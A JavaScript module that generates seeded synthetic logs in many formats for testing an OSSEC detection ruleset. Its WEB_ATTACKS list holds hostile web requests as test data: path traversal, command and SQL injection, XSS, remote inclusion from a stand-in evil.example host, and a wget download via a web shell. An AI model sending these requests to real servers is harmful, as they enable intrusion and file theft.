/**
 * Seeded log generator for differential testing against the real OSSEC engine and for
 * per-format benchmark corpora. Writes the formats the stock OSSEC ruleset decodes, with
 * correlated traffic: bursts per source address, user and host (agent), interleaved, with gaps
 * across correlation timeframes, and users seen for the first time or again.
 *
 * API (stable; plain CommonJS so .ts tests and .mjs scripts can both load it):
 *   generate({ seed, lines, formats?, agents?, start?, templates? })
 *     -> { lines: string[], format: string[], agent: string[], time: number[] }
 *        line i, its format name, the host/agent it came from, its time (ms since the epoch)
 *   stream(opts): the same, one { line, format, agent, time } at a time (large corpora)
 *   FORMATS: the format names the generator writes (before ini:* formats)
 *   iniTemplates(dir): lines of OSSEC's rule unit tests (../shared/ossec-4.2.0/tests) as extra
 *     templates, one format per decoder (`ini:<decoder>`); pass them as `templates`.
 *   decoderExamples(file): the example lines in a decoder file's comments (OSSEC's
 *     etc/decoder.xml), format `example:<decoder>`; also for `templates`.
 * Same options and seed: same output, on any machine.
 */
'use strict';

// ---------------------------------------------------------------------------------------------
// Randomness

function mulberry32(seed) {
  let a = seed >>> 0;
  return function next() {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Rng {
  constructor(seed) { this.next = mulberry32(seed); }
  int(lo, hi) { return lo + Math.floor(this.next() * (hi - lo + 1)); }
  pick(arr) { return arr[Math.floor(this.next() * arr.length)]; }
  chance(p) { return this.next() < p; }
  weighted(pairs) {
    let total = 0;
    for (const [, w] of pairs) total += w;
    let r = this.next() * total;
    for (const [v, w] of pairs) { r -= w; if (r < 0) return v; }
    return pairs[pairs.length - 1][0];
  }
  hex(n) { let s = ''; for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(0, 15)]; return s; }
}

// ---------------------------------------------------------------------------------------------
// Vocabulary (made up for this generator)

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const KNOWN_USERS = ['root', 'admin', 'alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter', 'deploy', 'backup', 'postgres', 'www-data', 'nagios', 'git', 'ubuntu', 'oracle', 'test', 'guest', 'ftpuser', 'support'];
const SYLLABLES = ['ka', 'to', 'ri', 'mu', 'sen', 'dal', 'vo', 'ne', 'lix', 'ar', 'bo', 'qui', 'zen', 'pa', 'lo', 'mi'];
const GROUPS = ['devs', 'ops', 'audit', 'sales', 'docker', 'wheel', 'staff', 'printers'];
const WEB_PATHS = ['/', '/index.html', '/about', '/contact.php', '/images/logo.png', '/css/site.css', '/js/app.js', '/blog/2024/05/post', '/shop/cart', '/api/v1/items', '/login', '/search?q=shoes', '/favicon.ico', '/robots.txt', '/wp-login.php', '/admin/', '/news?id=12'];
const WEB_ATTACKS = ['/index.php?page=../../../../etc/passwd', '/cgi-bin/test.cgi?x=;cat%20/etc/passwd', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', "/item.php?id=1'%20union%20select%201,2,3--", '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir', '/phpmyadmin/scripts/setup.php', '/index.php?file=http://evil.example/shell.txt?', '/.git/config', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php', '/etc/passwd', '/cgi-bin/php?-d+allow_url_include=on', '/manager/html', '/x.php?cmd=wget%20http://198.51.100.7/a', '/awstats.pl?configdir=|echo;id|', '/default.ida?NNNNNNNNNNNNNNNNNNNN%u9090', '/msadc/..%255c../winnt/system32/cmd.exe'];
const USER_AGENTS = ['Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'curl/8.4.0', 'Wget/1.21', 'python-requests/2.31.0', 'Nikto/2.1.6', 'sqlmap/1.7', 'Googlebot/2.1 (+http://www.google.com/bot.html)', 'masscan/1.3', '-'];
const DOMAINS = ['example.com', 'example.org', 'example.net', 'corp.example', 'mail.example'];
const COMMANDS = ['/bin/ls /root', '/usr/bin/apt-get update', '/bin/systemctl restart nginx', '/usr/bin/vim /etc/hosts', '/bin/cat /var/log/auth.log', '/usr/sbin/iptables -L', '/bin/bash', '/usr/bin/id'];

// ---------------------------------------------------------------------------------------------
// The world: hosts, users, addresses; a clock

class World {
  constructor(rng, opts) {
    this.rng = rng;
    this.t = opts.start;
    const n = Math.max(1, opts.agents);
    this.hosts = [];
    for (let i = 0; i < n; i++) this.hosts.push(i < 6 ? ['web01', 'db02', 'mail', 'fw-edge', 'bastion', 'app-3'][i] : `host${String(i).padStart(4, '0')}`);
    this.attackers = [];
    for (let i = 0; i < 40; i++) this.attackers.push(`${rng.pick([45, 61, 103, 185, 193, 203, 212, 218])}.${rng.int(1, 254)}.${rng.int(0, 254)}.${rng.int(1, 254)}`);
    this.clients = [];
    for (let i = 0; i < 60; i++) this.clients.push(rng.chance(0.7) ? `10.${rng.int(0, 20)}.${rng.int(0, 254)}.${rng.int(1, 254)}` : `192.168.${rng.int(0, 9)}.${rng.int(1, 254)}`);
    this.servers = ['10.0.0.5', '10.0.0.10', '10.0.1.20', '192.168.1.1', '172.16.0.2'];
    this.newUserSerial = 0;
  }
  /** Busy hosts more often than the rest. */
  host() {
    // a few busy hosts and many quiet ones (with many agents: a tenth of them are the busy ones)
    const busy = this.hosts.length <= 6 ? Math.min(this.hosts.length, 4) : Math.max(4, Math.floor(this.hosts.length / 10));
    return this.rng.chance(0.6) ? this.hosts[this.rng.int(0, busy - 1)] : this.rng.pick(this.hosts);
  }
  attacker() { return this.rng.pick(this.attackers); }
  client() { return this.rng.pick(this.clients); }
  anyIp() { return this.rng.chance(0.5) ? this.attacker() : this.client(); }
  port() { return this.rng.int(1024, 65000); }
  pid() { return this.rng.int(300, 65000); }
  /** A known user most of the time (repeated), else a name never used before (first-time). */
  user() {
    if (this.rng.chance(0.8)) return this.rng.pick(KNOWN_USERS);
    return this.freshUser();
  }
  freshUser() {
    this.newUserSerial++;
    return this.rng.pick(SYLLABLES) + this.rng.pick(SYLLABLES) + (this.rng.chance(0.5) ? String(this.newUserSerial % 97) : '');
  }
  /** Advance the clock: mostly a second or two, sometimes a pause longer than most timeframes. */
  tick() {
    const r = this.rng.next();
    if (r < 0.55) this.t += 0;
    else if (r < 0.97) this.t += this.rng.int(1, 3) * 1000;
    else if (r < 0.995) this.t += this.rng.int(20, 200) * 1000;
    else this.t += this.rng.int(300, 7500) * 1000;
  }
}

function pad2(n) { return n < 10 ? `0${n}` : String(n); }
function d(t) { return new Date(t); }
/** Syslog header time `Mar  1 07:05:09` (UTC). */
function sysTime(t) {
  const x = d(t);
  const day = x.getUTCDate();
  return `${MONTHS[x.getUTCMonth()]} ${day < 10 ? ` ${day}` : day} ${pad2(x.getUTCHours())}:${pad2(x.getUTCMinutes())}:${pad2(x.getUTCSeconds())}`;
}
function hms(t) { const x = d(t); return `${pad2(x.getUTCHours())}:${pad2(x.getUTCMinutes())}:${pad2(x.getUTCSeconds())}`; }
function syslog(w, host, prog, msg) { return `${sysTime(w.t)} ${host} ${prog}: ${msg}`; }
function withPid(w, prog) { return `${prog}[${w.pid()}]`; }

// ---------------------------------------------------------------------------------------------
// One line per format: each takes the world and a context (host, ip, user, ...) so bursts can
// hold some values fixed.

const F = {};

F.sshd = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const user = c.user ?? w.user();
  const kind = c.kind ?? r.weighted([['fail', 5], ['invalid', 3], ['accept', 2], ['closed', 2], ['noid', 1], ['revmap', 1], ['maxauth', 1], ['pamfail', 2], ['session', 1], ['disc', 1], ['notallowed', 1], ['badproto', 1], ['listen', 0.3]]);
  const p = w.port();
  const msg = {
    fail: `Failed password for ${user} from ${ip} port ${p} ssh2`,
    invalid: r.chance(0.5) ? `Failed password for invalid user ${user} from ${ip} port ${p} ssh2` : `Invalid user ${user} from ${ip}${r.chance(0.5) ? ` port ${p}` : ''}`,
    accept: `Accepted ${r.pick(['password', 'publickey'])} for ${user} from ${ip} port ${p} ssh2${r.chance(0.3) ? `: RSA SHA256:${r.hex(20)}` : ''}`,
    closed: `Connection closed by ${ip}${r.chance(0.5) ? ` port ${p}` : ''} [preauth]`,
    noid: `Did not receive identification string from ${ip}`,
    revmap: `reverse mapping checking getaddrinfo for ${r.pick(['dsl', 'static', 'host'])}-${ip.replace(/\./g, '-')}.${r.pick(DOMAINS)} [${ip}] failed - POSSIBLE BREAK-IN ATTEMPT!`,
    maxauth: `error: maximum authentication attempts exceeded for ${user} from ${ip} port ${p} ssh2 [preauth]`,
    pamfail: `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=${user}`,
    session: `pam_unix(sshd:session): session ${r.pick(['opened', 'closed'])} for user ${user}${r.chance(0.5) ? ' by (uid=0)' : ''}`,
    disc: `Received disconnect from ${ip}${r.chance(0.5) ? ` port ${p}` : ''}:11: ${r.pick(['Bye Bye', 'disconnected by user', 'Normal Shutdown'])} [preauth]`,
    notallowed: `User ${user} from ${ip} not allowed because not listed in AllowUsers`,
    badproto: `Bad protocol version identification '${r.pick(['GET / HTTP/1.1', '\\003', 'SSH-1.5-x'])}' from ${ip}${r.chance(0.5) ? ` port ${p}` : ''}`,
    listen: `Server listening on 0.0.0.0 port 22.`,
  }[kind];
  return syslog(w, c.host, withPid(w, 'sshd'), msg);
};

F.su = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.user();
  const target = r.chance(0.8) ? 'root' : r.pick(KNOWN_USERS);
  const kind = c.kind ?? r.weighted([['ok', 4], ['plus', 2], ['session', 3], ['failed', 1], ['bad', 1], ['pamfail', 1], ['minus', 1]]);
  const tty = `pts/${r.int(0, 9)}`;
  const msg = {
    ok: `Successful su for ${target} by ${user}`,
    plus: `+ ${tty} ${user}:${target}`,
    minus: `- ${tty} ${user}:${target}`,
    session: `pam_unix(su:session): session opened for user ${target} by ${user}(uid=${r.int(1000, 1010)})`,
    failed: `FAILED SU (to ${target}) ${user} on ${tty}`,
    bad: `BAD SU ${user} to ${target} on /dev/${tty}`,
    pamfail: `pam_unix(su:auth): authentication failure; logname=${user} uid=${r.int(1000, 1010)} euid=0 tty=/dev/${tty} ruser=${user} rhost=  user=${target}`,
  }[kind];
  return syslog(w, c.host, r.chance(0.5) ? withPid(w, 'su') : 'su', msg);
};

F.sudo = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.user();
  const kind = c.kind ?? r.weighted([['cmd', 6], ['incorrect', 1], ['notin', 1], ['pamfail', 1]]);
  const tail = `TTY=pts/${r.int(0, 9)} ; PWD=/home/${user} ; USER=${r.chance(0.85) ? 'root' : r.pick(KNOWN_USERS)} ; COMMAND=${r.pick(COMMANDS)}`;
  const msg = {
    cmd: `${r.chance(0.5) ? '  ' : ''}${user} : ${tail}`,
    incorrect: `${user} : 3 incorrect password attempts ; ${tail}`,
    notin: `${user} : user NOT in sudoers ; ${tail}`,
    pamfail: `pam_unix(sudo:auth): authentication failure; logname=${user} uid=1000 euid=0 tty=/dev/pts/1 ruser=${user} rhost=  user=${user}`,
  }[kind];
  return syslog(w, c.host, 'sudo', msg);
};

F.useradd = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.freshUser();
  const uid = r.int(1001, 1999);
  const kind = c.kind ?? r.weighted([['user', 3], ['group', 2], ['del', 1], ['mod', 1], ['passwd', 1], ['groupdel', 1]]);
  switch (kind) {
    case 'user': return syslog(w, c.host, withPid(w, 'useradd'), `new user: name=${user}, UID=${uid}, GID=${uid}, home=/home/${user}, shell=/bin/bash${r.chance(0.3) ? ', from=/dev/pts/0' : ''}`);
    case 'group': return syslog(w, c.host, withPid(w, r.pick(['groupadd', 'useradd'])), `new group: name=${r.chance(0.5) ? user : r.pick(GROUPS)}, GID=${uid}`);
    case 'del': return syslog(w, c.host, withPid(w, 'userdel'), r.chance(0.5) ? `delete user '${user}'` : `removed group '${user}' owned by '${user}'`);
    case 'mod': return syslog(w, c.host, withPid(w, 'usermod'), r.chance(0.5) ? `change user '${user}' password` : `add '${user}' to group '${r.pick(GROUPS)}'`);
    case 'passwd': return syslog(w, c.host, withPid(w, 'passwd'), `pam_unix(passwd:chauthtok): password changed for ${user}`);
    default: return syslog(w, c.host, withPid(w, 'groupdel'), `group '${r.pick(GROUPS)}' removed`);
  }
};

F.pam = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.user();
  const ip = c.ip ?? w.anyIp();
  const kind = c.kind ?? r.weighted([['loginfail', 2], ['cron', 2], ['chkpwd', 1], ['failedlogin', 1], ['otherfail', 1], ['unknown', 1]]);
  switch (kind) {
    case 'loginfail': return syslog(w, c.host, 'login', `pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=tty${r.int(1, 6)} ruser= rhost=  user=${user}`);
    case 'cron': return syslog(w, c.host, withPid(w, 'CRON'), `pam_unix(cron:session): session ${r.pick(['opened', 'closed'])} for user ${user}${r.chance(0.5) ? ' by (uid=0)' : ''}`);
    case 'chkpwd': return syslog(w, c.host, withPid(w, 'unix_chkpwd'), `password check failed for user (${user})`);
    case 'failedlogin': return syslog(w, c.host, withPid(w, 'login'), `FAILED LOGIN (${r.int(1, 3)}) on '/dev/tty${r.int(1, 6)}' FOR '${user}', Authentication failure`);
    case 'otherfail': return syslog(w, c.host, withPid(w, r.pick(['vsftpd', 'dovecot', 'sshd', 'xrdp'])), `pam_unix(${r.pick(['vsftpd', 'dovecot', 'other'])}:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=${ip}  user=${user}`);
    default: return syslog(w, c.host, withPid(w, 'sshd'), `pam_unix(sshd:auth): check pass; user unknown`);
  }
};

F.vsftpd = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.user();
  const ip = c.ip ?? w.anyIp();
  const kind = c.kind ?? r.weighted([['fail', 3], ['connect', 2], ['ok', 2]]);
  const x = d(w.t);
  const head = `${DAYS[x.getUTCDay()]} ${MONTHS[x.getUTCMonth()]} ${String(x.getUTCDate()).padStart(2, ' ')} ${hms(w.t)} ${x.getUTCFullYear()} [pid ${w.pid()}]`;
  const msg = { fail: `[${user}] FAIL LOGIN: Client "${ip}"`, connect: `CONNECT: Client "${ip}"`, ok: `[${user}] OK LOGIN: Client "${ip}"` }[kind];
  return r.chance(0.7) ? `${head} ${msg}` : syslog(w, c.host, withPid(w, 'vsftpd'), `[pid ${w.pid()}] ${msg}`);
};

F.proftpd = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.user();
  const ip = c.ip ?? w.anyIp();
  const kind = c.kind ?? r.weighted([['fail', 3], ['nouser', 2], ['ok', 2], ['opened', 1], ['max', 1], ['refused', 1]]);
  const who = `${c.host} (${ip}[${ip}])`;
  const msg = {
    fail: `${who} - USER ${user} (Login failed): Incorrect password.`,
    nouser: `${who} - USER ${user}: no such user found from ${ip} [${ip}] to ${w.servers[0]}:21`,
    ok: `${who} - USER ${user}: Login successful.`,
    opened: `${who} - FTP session opened.`,
    max: `${who} - Maximum login attempts (3) exceeded`,
    refused: `${who} - Connection refused (max clients 30).`,
  }[kind];
  return syslog(w, c.host, withPid(w, 'proftpd'), msg);
};

F['pure-ftpd'] = (w, c) => {
  const r = w.rng;
  const user = c.user ?? w.user();
  const ip = c.ip ?? w.anyIp();
  const msg = r.chance(0.6) ? `(?@${ip}) [WARNING] Authentication failed for user [${user}]` : `(?@${ip}) [INFO] ${user} is now logged in`;
  return syslog(w, c.host, 'pure-ftpd', msg);
};

function accessTime(t) {
  const x = d(t);
  return `${pad2(x.getUTCDate())}/${MONTHS[x.getUTCMonth()]}/${x.getUTCFullYear()}:${hms(t)} +0000`;
}

F['apache-access'] = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const attack = c.kind === 'attack' || (c.kind === undefined && r.chance(0.15));
  const url = attack ? r.pick(WEB_ATTACKS) : r.pick(WEB_PATHS);
  const status = c.status ?? (attack ? r.pick([404, 400, 403, 200, 500]) : r.weighted([[200, 12], [304, 2], [404, 3], [400, 1], [403, 1], [500, 1], [501, 0.3], [503, 0.5], [302, 1]]));
  const method = r.weighted([['GET', 10], ['POST', 2], ['HEAD', 1], ['OPTIONS', 0.2], ['PROPFIND', 0.1]]);
  const size = status === 304 ? '-' : String(r.int(0, 50000));
  const ua = c.ua ?? r.pick(USER_AGENTS);
  const user = r.chance(0.05) ? (c.user ?? w.user()) : '-';
  return `${ip} - ${user} [${accessTime(w.t)}] "${method} ${url} HTTP/1.${r.int(0, 1)}" ${status} ${size} "${r.chance(0.3) ? `http://${r.pick(DOMAINS)}/` : '-'}" "${ua}"`;
};

F['apache-error'] = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const user = c.user ?? w.user();
  const x = d(w.t);
  const v24 = c.v24 ?? r.chance(0.5);
  const when = `${DAYS[x.getUTCDay()]} ${MONTHS[x.getUTCMonth()]} ${pad2(x.getUTCDate())} ${hms(w.t)}${v24 ? `.${String(r.int(0, 999999)).padStart(6, '0')}` : ''} ${x.getUTCFullYear()}`;
  const path = r.pick(['/var/www/html/favicon.ico', '/var/www/html/admin', '/var/www/html/wp-login.php', '/srv/www/.env']);
  const kind = c.kind ?? r.weighted([['nofile', 4], ['auth', 2], ['denied', 2], ['invalid', 1], ['index', 1], ['script', 1]]);
  if (!v24) {
    const msg = {
      nofile: `File does not exist: ${path}`,
      auth: `user ${user}: authentication failure for "/admin": Password Mismatch`,
      denied: `client denied by server configuration: ${path}`,
      invalid: `Invalid URI in request GET /../../etc/passwd HTTP/1.1`,
      index: `Directory index forbidden by rule: /var/www/html/`,
      script: `script '${path}' not found or unable to stat`,
    }[kind];
    return `[${when}] [${r.pick(['error', 'error', 'warn', 'notice'])}] [client ${ip}] ${msg}`;
  }
  const p = w.port();
  const msg = {
    nofile: `[core:info] [pid ${w.pid()}] [client ${ip}:${p}] AH00128: File does not exist: ${path}`,
    auth: `[auth_basic:error] [pid ${w.pid()}] [client ${ip}:${p}] AH01617: user ${user}: authentication failure for "/admin": Password Mismatch`,
    denied: `[authz_core:error] [pid ${w.pid()}:tid ${r.int(100000, 999999)}] [client ${ip}:${p}] AH01630: client denied by server configuration: ${path}`,
    invalid: `[core:error] [pid ${w.pid()}] [client ${ip}:${p}] AH00126: Invalid URI in request GET /../../etc/passwd HTTP/1.1`,
    index: `[autoindex:error] [pid ${w.pid()}] [client ${ip}:${p}] AH01276: Cannot serve directory /var/www/html/: No matching DirectoryIndex found`,
    script: `[php7:error] [pid ${w.pid()}] [client ${ip}:${p}] script '${path}' not found or unable to stat`,
  }[kind];
  return `[${when}] ${msg}`;
};

F['nginx-error'] = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const x = d(w.t);
  const when = `${x.getUTCFullYear()}/${pad2(x.getUTCMonth() + 1)}/${pad2(x.getUTCDate())} ${hms(w.t)}`;
  const url = r.pick(WEB_PATHS.concat(WEB_ATTACKS.slice(0, 4)));
  const kind = c.kind ?? r.weighted([['open', 3], ['denied', 1], ['auth', 1], ['limit', 1]]);
  const tail = `client: ${ip}, server: ${r.pick(DOMAINS)}, request: "GET ${url} HTTP/1.1", host: "${r.pick(DOMAINS)}"`;
  const msg = {
    open: `[error] ${r.int(100, 9999)}#0: *${r.int(1, 99999)} open() "/usr/share/nginx/html${url.split('?')[0]}" failed (2: No such file or directory), ${tail}`,
    denied: `[error] ${r.int(100, 9999)}#0: *${r.int(1, 99999)} access forbidden by rule, ${tail}`,
    auth: `[error] ${r.int(100, 9999)}#0: *${r.int(1, 99999)} user "${c.user ?? w.user()}": password mismatch, ${tail}`,
    limit: `[warn] ${r.int(100, 9999)}#0: *${r.int(1, 99999)} delaying request, excess: 0.5, by zone "one", ${tail}`,
  }[kind];
  return `${when} ${msg}`;
};

F.squid = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.client();
  const code = c.code ?? r.weighted([['TCP_MISS/200', 8], ['TCP_HIT/200', 3], ['TCP_DENIED/403', 2], ['TCP_MISS/404', 2], ['TCP_MISS/503', 1], ['TCP_DENIED/407', 1], ['TCP_MISS/400', 1], ['TCP_MISS/500', 0.5], ['NONE/400', 0.5], ['TCP_MISS/302', 1]]);
  const url = r.chance(0.2) ? `${r.pick(DOMAINS)}:443` : `http://${r.pick(DOMAINS)}${r.pick(WEB_PATHS)}`;
  const method = url.endsWith(':443') ? 'CONNECT' : r.pick(['GET', 'GET', 'POST']);
  const secs = Math.floor(w.t / 1000);
  return `${secs}.${String(r.int(0, 999)).padStart(3, '0')} ${String(r.int(1, 9999)).padStart(6, ' ')} ${ip} ${code} ${r.int(200, 90000)} ${method} ${url} ${r.chance(0.1) ? (c.user ?? w.user()) : '-'} ${code.startsWith('TCP_DENIED') || code.startsWith('NONE') ? 'NONE/-' : `DIRECT/${w.servers[r.int(0, 4)]}`} ${r.pick(['text/html', 'image/png', 'application/json', '-'])}`;
};

F.pix = (w, c) => {
  const r = w.rng;
  const src = c.ip ?? w.anyIp();
  const dst = r.pick(w.servers);
  const fam = r.chance(0.5) ? 'PIX' : 'ASA';
  const kind = c.kind ?? r.weighted([['deny', 5], ['acl', 2], ['built', 3], ['teardown', 2], ['inbound', 2], ['ids', 1], ['aaa', 1], ['login', 1], ['cmd', 1], ['crit', 0.3]]);
  const sp = w.port();
  const dp = r.pick([22, 23, 80, 443, 445, 3389, 1433, 25, 53]);
  const msg = {
    deny: `%${fam}-4-106023: Deny ${r.pick(['tcp', 'udp'])} src outside:${src}/${sp} dst inside:${dst}/${dp} by access-group "outside_access_in" [0x0, 0x0]`,
    acl: `%${fam}-4-106100: access-list outside_in denied tcp outside/${src}(${sp}) -> inside/${dst}(${dp}) hit-cnt 1 first hit [0x${r.hex(8)}, 0x0]`,
    built: `%${fam}-6-302013: Built ${r.pick(['inbound', 'outbound'])} TCP connection ${r.int(1000, 999999)} for outside:${src}/${sp} (${src}/${sp}) to inside:${dst}/${dp} (${dst}/${dp})`,
    teardown: `%${fam}-6-302014: Teardown TCP connection ${r.int(1000, 999999)} for outside:${src}/${sp} to inside:${dst}/${dp} duration 0:00:0${r.int(0, 9)} bytes ${r.int(0, 99999)} TCP FINs`,
    inbound: `%${fam}-2-106001: Inbound TCP connection denied from ${src}/${sp} to ${dst}/${dp} flags SYN  on interface outside`,
    ids: `%${fam}-4-400010: IDS:2000 ICMP echo reply from ${src} to ${dst} on interface outside`,
    aaa: `%${fam}-6-113005: AAA user authentication Rejected : reason = AAA failure : server = ${w.servers[0]} : user = ${c.user ?? w.user()}`,
    login: `%${fam}-6-605005: Login permitted from ${src}/${sp} to inside:${dst}/ssh for user "${c.user ?? w.user()}"`,
    cmd: `%${fam}-5-111008: User '${c.user ?? w.user()}' executed the '${r.pick(['write memory', 'configure terminal', 'clear configure all'])}' command.`,
    crit: `%${fam}-1-${r.pick(['101001', '105005', '199002'])}: (Primary) Lost Failover communications with mate on interface outside.`,
  }[kind];
  return r.chance(0.6) ? `${sysTime(w.t)} ${c.host} ${msg}` : `${sysTime(w.t)} ${c.host} : ${msg}`;
};

F['cisco-ios'] = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const x = d(w.t);
  const stamp = `*${MONTHS[x.getUTCMonth()]} ${String(x.getUTCDate()).padStart(2, ' ')} ${hms(w.t)}.${String(r.int(0, 999)).padStart(3, '0')}`;
  const kind = c.kind ?? r.weighted([['config', 2], ['acl', 3], ['loginfail', 2], ['loginok', 1], ['link', 1]]);
  const msg = {
    config: `%SYS-5-CONFIG_I: Configured from console by ${c.user ?? w.user()} on vty0 (${ip})`,
    acl: `%SEC-6-IPACCESSLOGP: list 101 denied tcp ${ip}(${w.port()}) -> ${r.pick(w.servers)}(${r.pick([22, 23, 80])}), 1 packet`,
    loginfail: `%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: ${c.user ?? w.user()}] [Source: ${ip}] [localport: 22] [Reason: Login Authentication Failed] at ${hms(w.t)} UTC ${DAYS[x.getUTCDay()]} ${MONTHS[x.getUTCMonth()]} ${x.getUTCDate()} ${x.getUTCFullYear()}`,
    loginok: `%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: ${c.user ?? w.user()}] [Source: ${ip}] [localport: 22] at ${hms(w.t)} UTC ${DAYS[x.getUTCDay()]} ${MONTHS[x.getUTCMonth()]} ${x.getUTCDate()} ${x.getUTCFullYear()}`,
    link: `%LINK-3-UPDOWN: Interface GigabitEthernet0/${r.int(0, 3)}, changed state to ${r.pick(['up', 'down'])}`,
  }[kind];
  return `${sysTime(w.t)} ${c.host} ${r.int(1, 99999)}: ${stamp}: ${msg}`;
};

F.iptables = (w, c) => {
  const r = w.rng;
  const src = c.ip ?? w.anyIp();
  const proto = r.pick(['TCP', 'TCP', 'UDP', 'ICMP']);
  const ports = proto === 'ICMP' ? 'TYPE=8 CODE=0 ID=1 SEQ=1' : `SPT=${w.port()} DPT=${r.pick([22, 23, 80, 443, 3389, 53, 5060])}${proto === 'TCP' ? ` WINDOW=${r.int(1000, 65535)} RES=0x00 SYN URGP=0` : ` LEN=${r.int(20, 200)}`}`;
  const prefix = r.pick(['', 'DROP ', 'REJECT ', 'INPUT DROP: ', 'Shorewall:net2fw:DROP:']);
  return syslog(w, c.host, 'kernel', `[${r.int(100, 99999)}.${r.int(100000, 999999)}] ${prefix}IN=eth0 OUT= MAC=${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)} SRC=${src} DST=${r.pick(w.servers)} LEN=${r.int(40, 1500)} TOS=0x00 PREC=0x00 TTL=${r.int(30, 128)} ID=${r.int(1, 65535)} ${r.chance(0.5) ? 'DF ' : ''}PROTO=${proto} ${ports}`);
};

F.kernel = (w, c) => {
  const r = w.rng;
  const msg = r.weighted([
    [`Out of memory: Kill process ${w.pid()} (${r.pick(['java', 'mysqld', 'node'])}) score ${r.int(100, 999)} or sacrifice child`, 1],
    [`device eth${r.int(0, 1)} entered promiscuous mode`, 1],
    [`device eth${r.int(0, 1)} left promiscuous mode`, 1],
    [`${r.pick(['nginx', 'php-fpm'])}[${w.pid()}]: segfault at ${r.hex(8)} ip ${r.hex(12)} sp ${r.hex(12)} error 4 in libc.so.6`, 1],
    [`usb 1-1: new high-speed USB device number ${r.int(2, 9)} using ehci-pci`, 1],
    [`EXT4-fs (sda1): mounted filesystem with ordered data mode`, 1],
    [`end_request: I/O error, dev sda, sector ${r.int(1000, 9999999)}`, 0.5],
    [`Kernel panic - not syncing: Fatal exception`, 0.1],
    [`martian source ${r.pick(w.servers)} from ${w.anyIp()}, on dev eth0`, 0.5],
    [`possible SYN flooding on port ${r.pick([80, 443])}. Sending cookies.`, 0.5],
  ]);
  return syslog(w, c.host, 'kernel', msg);
};

F.named = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const p = w.port();
  const zone = r.pick(DOMAINS);
  const msg = r.weighted([
    [`client ${ip}#${p}: query (cache) '${zone}/A/IN' denied`, 3],
    [`client ${ip}#${p} (${zone}): zone transfer '${zone}/AXFR/IN' denied`, 1],
    [`unexpected RCODE (SERVFAIL) resolving '${zone}/A/IN': ${ip}#53`, 1],
    [`client ${ip}#${p}: update '${zone}/IN' denied`, 1],
    [`lame server resolving '${zone}' (in '${zone}'?): ${ip}#53`, 1],
    [`client ${ip}#${p}: query: ${zone} IN A + (${w.servers[0]})`, 2],
    [`zone ${zone}/IN: loaded serial ${r.int(2020000000, 2026999999)}`, 0.5],
    [`starting BIND 9.16.1 -u named`, 0.2],
  ]);
  return syslog(w, c.host, withPid(w, 'named'), msg);
};

F.postfix = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const user = c.user ?? w.user();
  const host = r.chance(0.5) ? 'unknown' : `mx.${r.pick(DOMAINS)}`;
  const to = `${user}@${r.pick(DOMAINS)}`;
  const kind = c.kind ?? r.weighted([['relay', 2], ['sasl', 2], ['connect', 3], ['hostname', 1], ['unknownuser', 2], ['rbl', 1], ['disconnect', 2], ['lost', 1]]);
  const msg = {
    relay: `NOQUEUE: reject: RCPT from ${host}[${ip}]: 554 5.7.1 <${to}>: Relay access denied; from=<x@${r.pick(DOMAINS)}> to=<${to}> proto=ESMTP helo=<${host}>`,
    sasl: `warning: ${host}[${ip}]: SASL ${r.pick(['LOGIN', 'PLAIN'])} authentication failed: authentication failure`,
    connect: `connect from ${host}[${ip}]`,
    hostname: `NOQUEUE: reject: RCPT from unknown[${ip}]: 450 4.7.1 Client host rejected: cannot find your hostname, [${ip}]; from=<a@b.example> to=<${to}> proto=ESMTP helo=<x>`,
    unknownuser: `NOQUEUE: reject: RCPT from ${host}[${ip}]: 550 5.1.1 <${to}>: Recipient address rejected: User unknown in local recipient table; from=<> to=<${to}> proto=ESMTP helo=<${host}>`,
    rbl: `NOQUEUE: reject: RCPT from ${host}[${ip}]: 554 5.7.1 Service unavailable; Client host [${ip}] blocked using zen.spamhaus.org; from=<a@b.example> to=<${to}> proto=ESMTP helo=<x>`,
    disconnect: `disconnect from ${host}[${ip}]`,
    lost: `lost connection after ${r.pick(['AUTH', 'CONNECT', 'EHLO'])} from ${host}[${ip}]`,
  }[kind];
  return syslog(w, c.host, `postfix/smtpd[${w.pid()}]`, msg);
};

